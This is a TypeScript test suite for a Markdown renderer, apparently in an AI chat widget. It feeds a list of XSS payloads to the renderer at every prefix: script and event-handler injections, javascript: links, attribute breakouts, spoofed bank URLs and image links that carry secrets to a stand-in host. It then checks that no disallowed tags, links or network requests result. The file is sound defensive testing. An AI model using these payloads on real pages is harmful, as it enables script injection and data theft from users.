/** What a model could be talked into writing (rules X1 to X5): every prefix of it, in a page that would notice. */
import { expect } from 'chai';
import { MarkdownView } from '../../../widget/markdown/markdown-view.ts';

const PAYLOADS = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 1">',
  '<svg onload="window.hacked = 1"><a xlink:href="javascript:window.hacked = 1">a</a></svg>',
  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
  '<style>@import "https://x.invalid/a.css"; * { display: none }</style>',
  '<form action="https://x.invalid"><input name="b"><button formaction="javascript:window.hacked = 1">c</button></form>',
  '<a href="javascript:window.hacked = 1" id="location" name="cookie">a</a>',
  '<base href="https://x.invalid/"><meta http-equiv="refresh" content="0;url=https://x.invalid"><link rel="prefetch" href="https://x.invalid">',
  '[a](javascript:window.hacked=1) [b](&#106;avascript:window.hacked=1) [c](<java\tscript:window.hacked=1>)',
  '[a]\n\n[a]: javascript:window.hacked=1 "t"',
  '[a](data:text/html;base64,PHNjcmlwdD4=) [b](vbscript:x) [c](file:///etc/passwd) [d](//x.invalid) [e](/a) [f](#b)',
  '![a](https://x.invalid/?secret=1 "b") ![c][d]\n\n[d]: https://x.invalid/?secret=2',
  '[![a](https://x.invalid/pixel.png)](https://x.invalid/b)',
  '[a" onmouseover="window.hacked=1](https://x.invalid/" onclick="window.hacked=1)',
  '[a](https://x.invalid "b\\" onclick=window.hacked=1")',
  '```js" onclick="window.hacked=1\nwindow.hacked = 1\n```',
  '```"><script>\n<script>window.hacked = 1</script>\n```',
  '| <img src=x onerror=window.hacked=1> | b |\n|--|--|\n| <svg onload=window.hacked=1> | [c](javascript:d) |',
  '- [x] <input onfocus=window.hacked=1 autofocus>\n  1. <details open ontoggle=window.hacked=1>',
  '<!-- --><b>a</b><?php ?><![CDATA[ <script>window.hacked = 1</script> ]]>',
  '[a\u202egro.knab](https://x.invalid) [\u200bb\u2066](https://www.bank.example@x.invalid)',
  'https://www.bank.example@x.invalid/a www.x.invalid/"onclick=a <https://x.invalid/"onclick=b>',
  '$$\\href{javascript:a}{b}$$ <math><mtext></p><style><img src=x onerror=window.hacked=1></math>',
];

const TAGS = new Set(
  'P,H1,H2,H3,H4,H5,H6,UL,OL,LI,BLOCKQUOTE,HR,BR,PRE,CODE,EM,STRONG,DEL,A,TABLE,THEAD,TBODY,TR,TH,TD,INPUT,DIV,SPAN,BUTTON'.split(
    ',',
  ),
);
const ATTRIBUTES = new Set(
  'href,title,rel,target,referrerpolicy,class,part,start,align,type,disabled,checked,role,tabindex,aria-label,dir'.split(
    ',',
  ),
);

function violations(root: Element): string[] {
  return [...root.querySelectorAll('*')].flatMap((node) => {
    const wrong = [...node.attributes]
      .filter(({ name }) => !ATTRIBUTES.has(name))
      .map(({ name }) => `${node.tagName} ${name}`);
    if (!TAGS.has(node.tagName)) wrong.push(node.tagName);
    if (node instanceof HTMLAnchorElement) {
      if (!['http:', 'https:', 'mailto:'].includes(node.protocol)) wrong.push(node.href);
      if (node.rel !== 'noopener noreferrer nofollow' || node.target !== '_blank') wrong.push('bare link');
      if (/[\u200b-\u200f\u202a-\u202e\u2066-\u2069]/.test(node.textContent)) wrong.push('hidden characters');
    }
    return wrong;
  });
}

describe('hostile text', () => {
  it('makes nothing but what the list allows, at any prefix', () => {
    const root = document.createElement('div');
    document.body.append(root);
    for (const payload of PAYLOADS) {
      const view = new MarkdownView(root.appendChild(document.createElement('div')));
      for (let end = 1; end <= payload.length; end += 1) {
        view.update(payload.slice(0, end));
        expect(violations(root), payload.slice(0, end)).to.deep.equal([]);
      }
      view.finish(payload);
      expect(violations(root), payload).to.deep.equal([]);
      root.replaceChildren();
    }
    root.remove();
    expect(Reflect.get(window, 'hacked')).to.equal(undefined);
  });

  it('asks the network for nothing', async () => {
    // A policy reports each attempt, in every engine; not all engines list requests that failed.
    const policy = document.createElement('meta');
    policy.httpEquiv = 'Content-Security-Policy';
    policy.content = "default-src 'self' 'unsafe-inline'";
    document.head.append(policy);
    const root = document.body.appendChild(document.createElement('div'));
    const sentinel = 'https://sentinel.invalid';
    const attempts: string[] = [];
    const reported = new Promise<void>((resolve) => {
      document.addEventListener('securitypolicyviolation', ({ blockedURI }) => {
        attempts.push(blockedURI);
        if (blockedURI.startsWith(sentinel)) resolve();
      });
    });
    for (const payload of PAYLOADS)
      new MarkdownView(root.appendChild(document.createElement('div'))).finish(payload);
    // One that is made shows when the others would be known, and that they would be seen.
    root.appendChild(document.createElement('img')).src = `${sentinel}/picture.png`;
    await reported;
    root.remove();
    expect(attempts.filter((address) => !address.startsWith(sentinel))).to.deep.equal([]);
  });

  it('works where the page forbids every HTML sink', () => {
    const policy = document.createElement('meta');
    policy.httpEquiv = 'Content-Security-Policy';
    policy.content = "require-trusted-types-for 'script'";
    document.head.append(policy);
    const reports: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => reports.push(event.violatedDirective));
    for (const payload of PAYLOADS)
      new MarkdownView(document.createElement('div')).finish(`${payload} &amp; &AElig;`);
    expect(reports).to.deep.equal([]);
  });
});
